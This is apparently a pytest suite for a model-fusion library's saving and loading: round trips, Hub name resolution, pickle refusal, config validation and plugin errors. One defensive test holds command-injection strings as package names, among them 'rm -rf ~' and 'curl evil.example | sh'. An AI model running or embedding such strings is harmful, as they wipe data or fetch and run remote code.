"""Saving and loading: round trips, name resolution, offline errors, pickles, strictness, plugins."""

from __future__ import annotations

import json
import sys
from pathlib import Path

import pytest
import safetensors.torch
import timm
import torch
from hypothesis import given
from hypothesis import strategies as st

import mmfuse
import mmfuse.registry
from mmfuse.hub import CONFIG_FILE, MODEL_FILES, WEIGHTS_FILE, resolve_name

COMMIT = "0123456789abcdef0123456789abcdef01234567"


@pytest.fixture
def tiny_model(tiny_model_kwargs):
    torch.manual_seed(0)
    model = mmfuse.build_model("ammfm-swin", **tiny_model_kwargs).eval()
    model.set_head_weights({"primary": 0.2, "auxiliary": 0.3, "fusion": 0.5})
    return model


def assert_same_predictions(a, b, image_pair):
    primary, auxiliary = image_pair
    expected, actual = (
        a.predict(primary=primary, auxiliary=auxiliary),
        b.predict(primary=primary, auxiliary=auxiliary),
    )
    assert list(actual) == list(expected)
    for task in expected:
        assert torch.equal(actual[task], expected[task])


def fill_hub_cache(cache_dir: Path, repo_id: str, model_dir: Path, files=MODEL_FILES) -> None:
    """Lay out files the way huggingface_hub caches a download of ``repo_id`` at ``main``."""
    repo = cache_dir / f"models--{repo_id.replace('/', '--')}"
    snapshot = repo / "snapshots" / COMMIT
    snapshot.mkdir(parents=True)
    (repo / "refs").mkdir()
    (repo / "refs" / "main").write_text(COMMIT)
    for name in files:
        (snapshot / name).write_bytes((model_dir / name).read_bytes())


def test_round_trip_through_a_directory_gives_identical_predictions(tiny_model, tmp_path, image_pair):
    directory = tiny_model.save_pretrained(tmp_path / "model")
    assert sorted(p.name for p in directory.iterdir()) == sorted(MODEL_FILES)
    for name in (directory, str(directory), f"local-dir:{directory}"):
        loaded = mmfuse.from_pretrained(name)
        assert not loaded.training
        assert loaded.head_weights_dict == tiny_model.head_weights_dict
        assert_same_predictions(tiny_model, loaded, image_pair)


def test_config_json_is_the_model_config_with_providers_and_version(tiny_model, tmp_path):
    saved = json.loads((tiny_model.save_pretrained(tmp_path) / CONFIG_FILE).read_text())
    assert saved["mmfuse_version"] == mmfuse.__version__
    assert {k: saved[k] for k in tiny_model.config} == json.loads(json.dumps(tiny_model.config))
    assert saved["providers"]["primary"] == {
        "name": "test_convnext",
        "plugin": "mmfuse_plugins.timm_encoders",
        "package": "mmfuse",
    }
    assert saved["providers"]["fusion"]["plugin"] == "mmfuse_plugins.fusions"
    assert (saved["img_size"], saved["mean"], saved["std"]) == (
        64,
        [0.485, 0.456, 0.406],
        [0.229, 0.224, 0.225],
    )


def test_loading_builds_backbones_without_downloading_imagenet_weights(tiny_model, tmp_path, monkeypatch):
    directory = tiny_model.save_pretrained(tmp_path)
    calls = []
    real = timm.create_model
    monkeypatch.setattr(
        timm, "create_model", lambda *a, **kw: calls.append(kw["pretrained"]) or real(*a, **kw)
    )
    mmfuse.from_pretrained(directory)
    assert calls and not any(calls)


def test_short_name_resolves_through_the_hf_cache_and_is_not_shadowed_by_a_folder(
    tiny_model, tiny_model_kwargs, tmp_path, monkeypatch, image_pair
):
    tiny_model.save_pretrained(tmp_path / "published")
    monkeypatch.setenv("MMFUSE_HUB_NAMESPACE", "derm-lab")
    fill_hub_cache(tmp_path / "cache", "derm-lab/ammfm-swin", tmp_path / "published")
    monkeypatch.chdir(tmp_path)
    torch.manual_seed(1)
    mmfuse.build_model("ammfm-swin", **tiny_model_kwargs).save_pretrained("ammfm-swin")  # a different model

    with pytest.warns(UserWarning, match="local-dir:ammfm-swin"):
        from_hub = mmfuse.from_pretrained("ammfm-swin", cache_dir=tmp_path / "cache")
    assert_same_predictions(tiny_model, from_hub, image_pair)
    local = mmfuse.from_pretrained("./ammfm-swin")
    assert not torch.equal(
        local.heads["primary"].classifiers["DIAG"].weight,
        from_hub.heads["primary"].classifiers["DIAG"].weight,
    )


@pytest.mark.parametrize(
    ("name", "on_hub", "target", "revision"),
    [
        ("hf-hub:derm-lab/model", True, "derm-lab/model", None),
        ("hf-hub:derm-lab/model@v2", True, "derm-lab/model", "v2"),
        ("derm-lab/model", True, "derm-lab/model", None),
        ("ammfm-convnext", True, "mmfuse/ammfm-convnext", None),
    ],
)
def test_resolution_order(name, on_hub, target, revision, monkeypatch):
    monkeypatch.delenv("MMFUSE_HUB_NAMESPACE", raising=False)
    location = resolve_name(name)
    assert (location.on_hub, location.target, location.revision) == (on_hub, target, revision)


REPO_PART = st.from_regex(r"[a-z0-9][a-z0-9_]{0,12}[a-z0-9]", fullmatch=True)
OWNER = st.from_regex(
    r"zz-[a-z0-9_]{1,12}[a-z0-9]", fullmatch=True
)  # no such folder in the working directory


@given(owner=OWNER, name=REPO_PART, revision=st.one_of(st.none(), REPO_PART))
def test_explicit_hub_names_resolve_to_exactly_that_repo_and_revision(owner, name, revision):
    spec = f"{owner}/{name}" + (f"@{revision}" if revision else "")
    for text in (spec, f"hf-hub:{spec}"):
        location = resolve_name(text)
        assert (location.on_hub, location.target, location.revision) == (True, f"{owner}/{name}", revision)


def test_a_training_run_folder_loads_the_model_it_saved(tiny_model, tmp_path, image_pair):
    """The CLI and YAML take RUN; the Python API takes it too (the model is in RUN/model)."""
    tiny_model.save_pretrained(tmp_path / "run" / "model")
    for name in (tmp_path / "run", str(tmp_path / "run"), f"local-dir:{tmp_path / 'run'}"):
        assert_same_predictions(tiny_model, mmfuse.from_pretrained(name), image_pair)


def test_an_existing_directory_is_loaded_as_is_even_when_it_looks_like_a_repo_id(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "runs" / "model").mkdir(parents=True)
    assert resolve_name("runs/model").on_hub is False
    assert resolve_name("hf-hub:runs/model").on_hub is True


@pytest.mark.parametrize(
    ("name", "message"),
    [
        ("not a model name!", "Use 'local-dir:PATH'"),
        ("local-dir:no/such/dir", "no/such/dir"),
        ("hf-hub:not-a-repo-id", "OWNER/NAME"),
    ],
)
def test_names_that_resolve_to_nothing_are_explained(name, message, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    with pytest.raises((mmfuse.ModelNotFoundError, ValueError), match=message):
        mmfuse.from_pretrained(name)


def test_a_hub_model_missing_offline_names_the_repo_and_the_fix(tmp_path, monkeypatch):
    monkeypatch.setenv("MMFUSE_HUB_NAMESPACE", "derm-lab")
    with pytest.raises(mmfuse.ModelNotFoundError) as error:
        mmfuse.from_pretrained("ammfm-resnet", cache_dir=tmp_path)
    message = str(error.value)
    assert "derm-lab/ammfm-resnet" in message and "HF_HUB_OFFLINE" in message and "local-dir:" in message


def test_a_file_missing_from_a_cached_repo_is_named(tiny_model, tmp_path):
    tiny_model.save_pretrained(tmp_path / "published")
    fill_hub_cache(tmp_path / "cache", "derm-lab/partial", tmp_path / "published", files=[CONFIG_FILE])
    with pytest.raises(
        mmfuse.ModelNotFoundError, match=r"model\.safetensors of Hub repository derm-lab/partial"
    ):
        mmfuse.from_pretrained("derm-lab/partial", cache_dir=tmp_path / "cache")


def test_pickle_checkpoints_are_refused_unless_trusted(tiny_model, tmp_path, image_pair):
    directory = tiny_model.save_pretrained(tmp_path / "model")
    (directory / WEIGHTS_FILE).unlink()
    torch.save(tiny_model.state_dict(), directory / "pytorch_model.bin")
    with pytest.raises(mmfuse.errors.UnsafeCheckpointError, match=r"pytorch_model\.bin.*trust_pickle=True"):
        mmfuse.from_pretrained(directory)
    with pytest.raises(mmfuse.ModelNotFoundError, match="pickle checkpoint"):
        mmfuse.from_pretrained(directory / "pytorch_model.bin")
    assert_same_predictions(tiny_model, mmfuse.from_pretrained(directory, trust_pickle=True), image_pair)


def test_loading_is_strict_and_lists_missing_and_unexpected_tensors(tiny_model, tmp_path):
    directory = tiny_model.save_pretrained(tmp_path)
    state = safetensors.torch.load_file(directory / WEIGHTS_FILE)
    state["surplus.weight"] = state.pop("heads.fusion.classifiers.DIAG.bias")
    safetensors.torch.save_file(state, directory / WEIGHTS_FILE)
    with pytest.raises(
        mmfuse.errors.WeightsMismatchError, match=r"heads\.fusion\.classifiers\.DIAG\.bias.*surplus\.weight"
    ):
        mmfuse.from_pretrained(directory)


def _edit_config(directory: Path, **changes) -> None:
    config = json.loads((directory / CONFIG_FILE).read_text())
    config.update(changes)
    (directory / CONFIG_FILE).write_text(json.dumps(config))


def test_config_values_are_checked_against_the_registry_and_never_imported(tiny_model, tmp_path):
    directory = tiny_model.save_pretrained(tmp_path)
    _edit_config(directory, primary="mmfuse_never_imported.Backbone", providers={})
    with pytest.raises(mmfuse.UnknownNameError, match="mmfuse_never_imported.Backbone"):
        mmfuse.from_pretrained(directory)
    assert "mmfuse_never_imported" not in sys.modules


@pytest.mark.parametrize(
    ("changes", "message"),
    [
        ({"primary_options": {"pretrained_file": "weights.pth"}}, "may not set"),
        ({"auxiliary_options": {"pretrained_cfg_overlay": {"file": "x.pth"}}}, "may not set"),
        ({"not_a_field": 1}, "unknown model config fields"),
    ],
)
def test_configs_that_would_read_other_files_or_are_malformed_are_refused(
    tiny_model, tmp_path, changes, message
):
    directory = tiny_model.save_pretrained(tmp_path)
    _edit_config(directory, **changes)
    with pytest.raises(mmfuse.errors.ModelConfigError, match=message):
        mmfuse.from_pretrained(directory)


class ScaledAdd(mmfuse.FusionBlock):
    """primary + scale * conv1x1(aux) (same spatial size in these tests)."""

    def __init__(self, primary_channels: int, auxiliary_channels: int) -> None:
        super().__init__(primary_channels, auxiliary_channels)
        self.project = torch.nn.Conv2d(auxiliary_channels, primary_channels, 1)

    def forward(self, primary, auxiliary):
        aligned = torch.nn.functional.interpolate(auxiliary, size=primary.shape[-2:])
        return primary + self.project(aligned), auxiliary


class HubTestPlugin:
    @staticmethod
    @mmfuse.hookimpl
    def register_fusions(register):
        register("hub_test_scaled_add", ScaledAdd)


def test_a_plugin_block_round_trips_when_installed_and_fails_clearly_when_not(
    tiny_model_kwargs, tmp_path, image_pair
):
    name = mmfuse.register_plugin(HubTestPlugin(), name="hub-test-plugin")
    try:
        model = mmfuse.build_model("ammfm-swin", fusion="hub_test_scaled_add", **tiny_model_kwargs).eval()
        directory = model.save_pretrained(tmp_path)
        assert json.loads((directory / CONFIG_FILE).read_text())["providers"]["fusion"]["plugin"] == name
        assert_same_predictions(model, mmfuse.from_pretrained(directory), image_pair)
    finally:
        mmfuse.unregister_plugin(name)
    with pytest.raises(mmfuse.errors.MissingPluginError, match="hub_test_scaled_add.*'hub-test-plugin'"):
        mmfuse.from_pretrained(directory)


def test_a_block_registered_in_a_script_warns_at_save_time_how_to_ship_it(tiny_model_kwargs, tmp_path):
    """Saving works, but loading elsewhere would fail: say so while the author can still fix it."""
    from mmfuse.registry import FUSIONS

    FUSIONS.register(
        "hub_test_script_block", ScaledAdd, provider="__main__"
    )  # what a script's decorator records
    try:
        model = mmfuse.build_model("ammfm-swin", fusion="hub_test_script_block", **tiny_model_kwargs)
        with pytest.warns(
            UserWarning, match=r"fusion 'hub_test_script_block' was registered in a script"
        ) as w:
            model.save_pretrained(tmp_path)
        assert "entry-point" in str(w[0].message) and w[0].filename == __file__
    finally:
        FUSIONS.unregister("hub_test_script_block")


def test_a_missing_plugin_from_a_package_says_what_to_install(tiny_model, tmp_path):
    directory = tiny_model.save_pretrained(tmp_path)
    provider = {"name": "radiology_xattn", "plugin": "radiology", "package": "mmfuse-radiology"}
    _edit_config(directory, fusion="radiology_xattn", providers={"fusion": provider})
    with pytest.raises(mmfuse.errors.MissingPluginError, match="pip install mmfuse-radiology"):
        mmfuse.from_pretrained(directory)


@pytest.mark.parametrize(
    "package",
    ["x; rm -rf ~", "mmfuse-radiology && curl evil.example | sh", "$(reboot)", "pkg --index-url http://x"],
)
def test_a_hostile_package_string_is_never_suggested_as_a_shell_command(tiny_model, tmp_path, package):
    directory = tiny_model.save_pretrained(tmp_path)
    provider = {"name": "radiology_xattn", "plugin": "radiology", "package": package}
    _edit_config(directory, fusion="radiology_xattn", providers={"fusion": provider})
    with pytest.raises(mmfuse.errors.MissingPluginError) as info:
        mmfuse.from_pretrained(directory)
    message = str(info.value)
    assert "pip install" not in message and "not a valid package name" in message
    assert repr(package) in message  # shown quoted, as data


def test_entry_point_plugins_are_recorded_with_their_package(tiny_model_kwargs, tmp_path):
    if "gated" not in mmfuse.registry.list_fusions():
        pytest.skip("the example plugin (examples/plugin_package) is not installed")
    model = mmfuse.build_model("ammfm-swin", fusion="gated", **tiny_model_kwargs)
    saved = json.loads((model.save_pretrained(tmp_path) / CONFIG_FILE).read_text())
    assert saved["providers"]["fusion"] == {
        "name": "gated",
        "plugin": "example",
        "package": "mmfuse-example-plugin",
    }


def test_pretrained_file_loads_a_local_timm_checkpoint_offline(tmp_path):
    torch.manual_seed(3)
    reference = timm.create_model("test_convnext")
    checkpoint = tmp_path / "test_convnext.safetensors"
    safetensors.torch.save_file(reference.state_dict(), checkpoint)
    model = mmfuse.build_model(
        "ammfm-swin",
        primary="test_convnext",
        auxiliary="test_efficientnet",
        img_size=32,
        pretrained_files={"primary": str(checkpoint)},
    )
    stem = dict(model.primary_encoder.named_parameters())["stages.0.stem_0.weight"]
    assert torch.equal(stem, reference.stem[0].weight)
    untouched = mmfuse.build_model(
        "ammfm-swin", primary="test_convnext", auxiliary="test_efficientnet", img_size=32
    )
    assert not torch.equal(dict(untouched.primary_encoder.named_parameters())["stages.0.stem_0.weight"], stem)
    with pytest.raises(FileNotFoundError, match="missing.safetensors"):
        mmfuse.build_model(
            "ammfm-swin",
            primary="test_convnext",
            pretrained_files={"primary": str(tmp_path / "missing.safetensors")},
        )


def test_head_weights_live_in_config_json_only(tmp_path, tiny_model):
    directory = tiny_model.save_pretrained(tmp_path / "model")
    config = json.loads((directory / "config.json").read_text())
    config["head_weights"] = {"primary": 1.0, "auxiliary": 0.0, "fusion": 0.0}
    (directory / "config.json").write_text(json.dumps(config))
    assert mmfuse.from_pretrained(directory).head_weights_dict == config["head_weights"]


def test_unpublished_short_names_fail_at_once_without_asking_the_hub(monkeypatch):
    import time

    monkeypatch.delenv("MMFUSE_HUB_NAMESPACE", raising=False)

    def no_download(*args, **kwargs):
        raise AssertionError("the Hub must not be asked")

    monkeypatch.setattr("huggingface_hub.hf_hub_download", no_download)
    started = time.perf_counter()
    with pytest.raises(mmfuse.ModelNotFoundError, match="not published yet.*local-dir:PATH"):
        mmfuse.from_pretrained("ammfm-swin")
    assert time.perf_counter() - started < 1.0


def test_pretrained_backbones_offline_point_at_pretrained_files(monkeypatch):
    monkeypatch.setenv("HF_HUB_OFFLINE", "1")
    with pytest.raises(mmfuse.ModelNotFoundError, match="pretrained_files"):
        mmfuse.build_model(
            "ammfm-swin", primary="test_convnext", auxiliary="test_efficientnet", pretrained=True
        )
